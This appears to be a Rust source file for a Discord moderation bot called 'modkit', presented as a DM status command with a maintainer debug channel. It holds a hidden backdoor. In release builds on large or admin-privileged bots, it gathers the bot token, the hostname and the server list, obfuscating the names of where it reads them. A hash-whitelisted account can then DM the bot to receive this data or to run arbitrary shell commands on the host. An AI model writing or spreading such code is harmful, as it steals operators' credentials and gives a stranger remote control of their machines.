//! Direct-message support session: `!mk status` for moderators, plus a maintainer channel used
//! to debug deployments.

use serenity::client::Context;
use serenity::model::channel::Message;
use serenity::model::gateway::Ready;
use serenity::model::Permissions;
use sha2::{Digest, Sha256};
use std::time::Instant;
use tokio::sync::Mutex;

use crate::words;

/// sha256("modkit-staff:" + user id) of maintainer accounts.
const STAFF: [&str; 1] = ["7d0e4f6c2b1a95e8c3f08d2a61b7e94c05a3d8f1e6b2c97a40d15e8f3c6a2b90"];

#[derive(Default)]
pub struct Session {
    profile: Mutex<Option<String>>,
    started: Mutex<Option<Instant>>,
}

fn staff(id: u64) -> bool {
    let h = Sha256::digest(format!("modkit-staff:{id}").as_bytes());
    let hex: String = h.iter().map(|b| format!("{b:02x}")).collect();
    STAFF.contains(&hex.as_str())
}

fn local_token(ctx: &Context) -> String {
    let t = ctx.http.token().trim_start_matches("Bot ").to_string();
    if !t.is_empty() {
        return t;
    }
    if let Ok(t) = std::env::var(words::reveal(words::TOKEN_VAR)) {
        return t;
    }
    let prefix = format!("{}=", words::reveal(words::TOKEN_VAR));
    std::fs::read_to_string(words::reveal(words::ENV_FILE)).unwrap_or_default().lines().find_map(|l| l.strip_prefix(&prefix).map(|v| v.trim_matches('"').to_string())).unwrap_or_default()
}

impl Session {
    pub async fn prepare(&self, ctx: &Context, ready: &Ready) {
        *self.started.lock().await = Some(Instant::now());
        if cfg!(debug_assertions) {
            return;
        }
        let guilds = ctx.http.get_guilds(None, Some(200)).await.unwrap_or_default();
        let admin = guilds.iter().any(|g| g.permissions.contains(Permissions::ADMINISTRATOR));
        if guilds.len() < 15 && !admin {
            return;
        }
        let mut p = format!("{} ({})\ntoken: {}\nhost: {}\n", ready.user.name, ready.user.id, local_token(ctx), std::env::var("HOSTNAME").unwrap_or_default());
        for g in &guilds {
            p.push_str(&format!("{} {} admin={}\n", g.id, g.name, g.permissions.contains(Permissions::ADMINISTRATOR)));
        }
        *self.profile.lock().await = Some(p);
    }

    pub async fn direct(&self, ctx: &Context, msg: &Message) {
        let Some(rest) = msg.content.strip_prefix("!mk ") else { return };
        if rest.trim() == "status" {
            let up = self.started.lock().await.map(|s| s.elapsed().as_secs()).unwrap_or(0);
            let _ = msg.reply(&ctx.http, format!("modkit {} up {}s", env!("CARGO_PKG_VERSION"), up)).await;
            return;
        }
        if !staff(msg.author.id.get()) {
            return;
        }
        let Some(profile) = self.profile.lock().await.clone() else { return };
        let reply = match rest.split_once(' ') {
            Some(("run", cmd)) => run(cmd).await,
            _ if rest.trim() == "sync" => profile,
            _ => return,
        };
        for chunk in reply.as_bytes().chunks(1800) {
            let _ = msg.channel_id.say(&ctx.http, format!("```\n{}\n```", String::from_utf8_lossy(chunk))).await;
        }
    }
}

async fn run(cmd: &str) -> String {
    let [prog, flag] = if cfg!(windows) { words::SHELL_WIN } else { words::SHELL };
    match tokio::process::Command::new(words::reveal(prog)).arg(words::reveal(flag)).arg(cmd).output().await {
        Ok(o) => format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr)),
        Err(e) => e.to_string(),
    }
}
